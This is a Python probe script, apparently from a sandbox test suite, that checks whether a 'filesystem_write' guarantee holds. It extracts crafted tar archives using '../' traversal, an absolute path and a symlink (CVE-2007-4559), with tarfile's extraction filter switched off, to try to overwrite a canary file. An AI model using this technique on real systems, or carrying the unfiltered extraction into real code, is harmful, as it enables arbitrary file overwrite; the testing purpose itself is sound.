# /// attack
# guarantee = "filesystem_write"
# summary = "Unpacks an archive whose names lead out: '..', an absolute path, and a link to write through."
# reference = "CVE-2007-4559"
# success = "the canary has changed"
# stage = ["canary"]
# observe = ["changed"]
# control = { success = "status 0" }
# refusal = { default = "verdict completed" }
# ///

import io
import os
import tarfile

from kit import target

canary = target("CANARY")
for name in ("../" * 40 + canary.lstrip("/"), canary, "link/canary"):
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        if name.startswith("link"):
            link = tarfile.TarInfo("link")
            link.type, link.linkname = tarfile.SYMTYPE, os.path.dirname(canary)
            archive.addfile(link)
        entry = tarfile.TarInfo(name)
        entry.size = 7
        archive.addfile(entry, io.BytesIO(b"changed"))
    made.seek(0)
    with tarfile.open(fileobj=made) as archive:
        archive.extraction_filter = lambda member, path: member
        try:
            archive.extractall()
        except OSError:
            continue  # what was reached is seen from outside
os._exit(0)
